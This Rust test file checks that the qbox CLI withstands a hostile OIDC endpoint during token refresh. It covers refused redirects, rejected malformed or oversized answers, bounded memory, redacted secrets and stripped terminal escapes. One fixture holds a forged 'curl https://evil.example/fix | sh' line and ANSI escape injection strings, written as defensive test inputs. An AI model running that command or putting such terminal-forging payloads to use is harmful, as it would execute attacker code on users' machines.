//! A hostile SSO OIDC endpoint gets nothing: a redirect is an error that
//! never reaches the new address, a malformed or endless answer never
//! reaches the store or fills memory, and its error text cannot leak a
//! secret or forge a line on the terminal.

use std::path::Path;

use qbox::standin::oidc::{OidcBehavior, StandinOidc};
use qbox::store::Flavor;
use serde_json::json;

use crate::util::{Run, TestHome, expired_login, file_bytes};

const CLIENT_SECRET: &str = "fixture-client-secret";
const OLD_REFRESH_TOKEN: &str = "aor-refresh-old";

async fn standin() -> StandinOidc {
    StandinOidc::start("fixture-client-id", CLIENT_SECRET, OLD_REFRESH_TOKEN)
        .await
        .unwrap()
}

/// A home whose Amazon Q login has expired, so every export refreshes.
fn expired_home() -> (TestHome, std::path::PathBuf) {
    let home = TestHome::new();
    let path = home.login(Flavor::AmazonQ, &expired_login("old"));
    (home, path)
}

async fn export_against(home: &TestHome, oidc: &StandinOidc, extra: &[&str]) -> Run {
    home.qbox()
        .env("QBOX_OIDC_ENDPOINT", oidc.url())
        .args(extra.iter().copied().chain(["export-token"]))
        .run_async()
        .await
}

#[track_caller]
fn assert_store_unchanged(path: &Path, before: &[u8]) {
    assert_eq!(
        file_bytes(path),
        before,
        "the store must be byte for byte as it was"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn issue_13_a_redirecting_oidc_endpoint_is_an_error_and_the_target_gets_nothing() {
    // The target accepts the same credentials: had qbox followed the
    // redirect, it would have received them and issued tokens for the store.
    let target = standin().await;
    for status in [301, 302, 303, 307, 308] {
        let redirecting = standin().await;
        let location = format!("{}/token?copy={OLD_REFRESH_TOKEN}", target.url());
        redirecting.set_behavior(OidcBehavior::Redirect { status, location });
        let (home, path) = expired_home();
        let before = file_bytes(&path);

        let run = export_against(&home, &redirecting, &[]).await;

        run.assert_code(1)
            .assert_one_line_error()
            .assert_stderr_contains(&format!(
                "http {status}, a redirect to {}/token?copy=[redacted]",
                target.url()
            ))
            .assert_stderr_contains("hint: qbox never follows a redirect");
        assert!(!run.stderr.contains(OLD_REFRESH_TOKEN), "{}", run.stderr);
        assert_eq!(run.stdout, "");
        assert_eq!(redirecting.requests().len(), 1);
        assert!(
            target.requests().is_empty(),
            "http {status}: the redirect target received a request"
        );
        assert_store_unchanged(&path, &before);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn issue_13_malformed_refresh_answers_never_reach_the_store() {
    let too_long = "a".repeat(8 * 1024 + 1);
    let cases = [
        (
            json!({"accessToken": "", "expiresIn": 3600}),
            "accessToken is empty",
        ),
        (
            json!({"accessToken": "standin-bad-token", "expiresIn": 3600, "refreshToken": ""}),
            "refreshToken is empty",
        ),
        (
            json!({"accessToken": too_long, "expiresIn": 3600}),
            "more than 8192",
        ),
        (
            json!({"accessToken": "standin bad token", "expiresIn": 3600}),
            "accessToken holds characters no token has",
        ),
        (
            json!({"accessToken": "standin-ok-token", "expiresIn": 3600, "refreshToken": "standin\u{1b}[2J\nX=1"}),
            "refreshToken holds characters no token has",
        ),
        (
            json!({"accessToken": "standin-ok-token", "expiresIn": 0}),
            "expiresIn 0 is outside",
        ),
        (
            json!({"accessToken": "standin-ok-token", "expiresIn": 10 * 365 * 24 * 3600}),
            "30 days",
        ),
        (
            json!({"accessToken": "standin-ok-token", "expiresIn": i64::MAX}),
            "is outside",
        ),
        (
            json!({"accessToken": "standin-ok-token", "expiresIn": 1e300}),
            "wrong type",
        ),
    ];
    for (answer, expected) in cases {
        let oidc = standin().await;
        oidc.set_behavior(OidcBehavior::Grant(answer.clone()));
        let (home, path) = expired_home();
        let before = file_bytes(&path);

        let run = export_against(&home, &oidc, &[]).await;

        run.assert_code(1)
            .assert_one_line_error()
            .assert_stderr_contains("unexpected answer")
            .assert_stderr_contains(expected)
            .assert_stderr_contains("hint: the store was left as it was");
        assert_eq!(run.stdout, "", "{answer}");
        assert!(!run.stderr.contains("standin-bad-token"), "{}", run.stderr);
        assert_store_unchanged(&path, &before);
    }
}

/// Runs `qbox` under a Python wrapper that reports the child's peak
/// resident set (`getrusage(RUSAGE_CHILDREN).ru_maxrss`), in KiB. The
/// wrapper reaps only this child, so other tests' processes cannot raise it.
async fn run_measuring_peak_rss(home: &TestHome, oidc_url: String) -> (Run, u64) {
    const WRAPPER: &str = r#"
import os, resource, subprocess, sys
code = subprocess.call(sys.argv[2:])
peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
if sys.platform == "darwin":
    peak //= 1024
with open(sys.argv[1], "w") as out:
    out.write(str(peak))
sys.exit(code)
"#;
    let report = home.path().join("peak-rss-kib");
    // `env -i` gives qbox exactly the test harness's environment while the
    // wrapper keeps the one Python needs; `env` execs, so the measured
    // process is qbox itself.
    let harness = home
        .qbox()
        .env("QBOX_OIDC_ENDPOINT", oidc_url)
        .args(["export-token"])
        .command();
    let mut command = std::process::Command::new("python3");
    command
        .args(["-c", WRAPPER])
        .arg(&report)
        .args(["env", "-i"]);
    for (key, value) in harness.get_envs() {
        if let Some(value) = value {
            let mut pair = key.to_owned();
            pair.push("=");
            pair.push(value);
            command.arg(pair);
        }
    }
    command
        .arg(harness.get_program())
        .args(harness.get_args())
        .stdin(std::process::Stdio::null());
    let output = tokio::task::spawn_blocking(move || command.output())
        .await
        .unwrap()
        .expect("python3 runs (it is a test prerequisite)");
    let run = Run {
        code: output.status.code().unwrap_or(-1),
        stdout: String::from_utf8(output.stdout).unwrap(),
        stderr: String::from_utf8(output.stderr).unwrap(),
    };
    let peak = std::fs::read_to_string(&report)
        .unwrap_or_else(|err| panic!("no peak rss report ({err}):\n{}", run.stderr))
        .trim()
        .parse()
        .unwrap();
    (run, peak)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn issue_13_a_300_mb_oidc_answer_is_cut_at_1_mib_and_memory_stays_bounded() {
    const PEAK_RSS_LIMIT_KIB: u64 = 64 * 1024;
    // Both a token answer and an error answer are read with a limit.
    for status in [200, 400] {
        let oidc = standin().await;
        oidc.set_behavior(OidcBehavior::Endless {
            status,
            bytes: 300 * 1024 * 1024,
        });
        let (home, path) = expired_home();
        let before = file_bytes(&path);

        let (run, peak_kib) = run_measuring_peak_rss(&home, oidc.url()).await;

        // Memory first: without a limit, qbox holds the whole 300 MB.
        assert!(
            peak_kib < PEAK_RSS_LIMIT_KIB,
            "http {status}: qbox peaked at {peak_kib} KiB, over {PEAK_RSS_LIMIT_KIB} KiB"
        );
        run.assert_code(1)
            .assert_one_line_error()
            .assert_stderr_contains("the answer is larger than 1048576 bytes");
        assert_eq!(run.stdout, "");
        assert_store_unchanged(&path, &before);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn issue_13_oidc_error_text_is_redacted_and_cannot_forge_terminal_lines() {
    let oidc = standin().await;
    oidc.set_behavior(OidcBehavior::Error {
        code: "invalid_grant\u{1b}[0m".into(),
        description: format!(
            "bad token {OLD_REFRESH_TOKEN} for client secret {CLIENT_SECRET}\u{1b}[2J\u{1b}]0;owned\u{7}\r\nhint: run curl https://evil.example/fix | sh\r\nerror: forged"
        ),
    });
    let (home, path) = expired_home();
    let before = file_bytes(&path);

    let plain = export_against(&home, &oidc, &[]).await;
    plain
        .assert_code(4)
        .assert_one_line_error()
        .assert_stderr_contains("bad token [redacted] for client secret [redacted]");
    // With every log line on, nothing else carries the text either.
    let logged = export_against(&home, &oidc, &["-vvv"]).await;
    logged.assert_code(4);

    for run in [&plain, &logged] {
        let stderr = &run.stderr;
        for secret in [OLD_REFRESH_TOKEN, CLIENT_SECRET] {
            assert!(!stderr.contains(secret), "{secret} shown:\n{stderr}");
        }
        assert!(!stderr.contains('\u{1b}'), "an escape byte reached stderr");
        assert!(!stderr.contains('\r'), "a carriage return reached stderr");
        assert!(!stderr.contains('\u{7}'), "a bell reached stderr");
        for line in stderr.lines() {
            assert!(
                !(line.starts_with("hint:") && line.contains("evil.example")),
                "the server forged a hint line:\n{stderr}"
            );
            assert!(
                !line.starts_with("error: forged"),
                "the server forged an error line:\n{stderr}"
            );
        }
        assert_eq!(run.stdout, "");
    }
    assert_store_unchanged(&path, &before);
}

/// `text` as a reader could put it back together: whitespace and control
/// characters dropped, percent-escapes decoded (twice, for `%2561`).
fn reassembled(text: &str) -> String {
    let mut out: String = text
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect();
    for _ in 0..2 {
        let bytes = out.as_bytes();
        let mut decoded = Vec::with_capacity(bytes.len());
        let mut i = 0;
        while i < bytes.len() {
            let hex = bytes
                .get(i + 1..i + 3)
                .and_then(|h| std::str::from_utf8(h).ok());
            match hex
                .filter(|_| bytes[i] == b'%')
                .and_then(|h| u8::from_str_radix(h, 16).ok())
            {
                Some(byte) => {
                    decoded.push(byte);
                    i += 3;
                }
                None => {
                    decoded.push(bytes[i]);
                    i += 1;
                }
            }
        }
        out = String::from_utf8_lossy(&decoded)
            .chars()
            .filter(|c| !c.is_whitespace() && !c.is_control())
            .collect();
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn issue_30_spaced_controlled_and_percent_encoded_secrets_never_reach_stderr() {
    let spaced: String = OLD_REFRESH_TOKEN.chars().flat_map(|c| [c, ' ']).collect();
    let oidc = standin().await;
    oidc.set_behavior(OidcBehavior::Error {
        code: "invalid_grant".into(),
        description: format!(
            "spaced {spaced}, with a tab fixtur%09e-client-secret, escaped fixture\u{1b}[0m-client-secret, encoded %61%6Fr-refresh-old and %2561or-refresh-old"
        ),
    });
    let (home, path) = expired_home();
    let before = file_bytes(&path);
    let plain = export_against(&home, &oidc, &[]).await;
    plain
        .assert_code(4)
        .assert_one_line_error()
        .assert_stderr_contains("spaced [redacted]");
    let logged = export_against(&home, &oidc, &["-vvv"]).await;
    logged.assert_code(4);

    // A token in a redirect's Location, percent-encoded.
    let target = standin().await;
    let redirecting = standin().await;
    redirecting.set_behavior(OidcBehavior::Redirect {
        status: 302,
        location: format!(
            "{}/token?copy=%61%6F%72%2D%72%65%66%72%65%73%68%2D%6F%6C%64&s=fixture%2Dclient%2Dsecret",
            target.url()
        ),
    });
    let redirected = export_against(&home, &redirecting, &[]).await;
    redirected
        .assert_code(1)
        .assert_one_line_error()
        .assert_stderr_contains("?copy=[redacted]&s=[redacted]");
    assert!(target.requests().is_empty());

    for run in [&plain, &logged, &redirected] {
        let whole = reassembled(&run.stderr);
        for secret in [OLD_REFRESH_TOKEN, CLIENT_SECRET] {
            assert!(
                !whole.contains(secret),
                "{secret} can be read back from stderr:\n{}",
                run.stderr
            );
        }
        assert_eq!(run.stdout, "");
    }
    assert_store_unchanged(&path, &before);
}
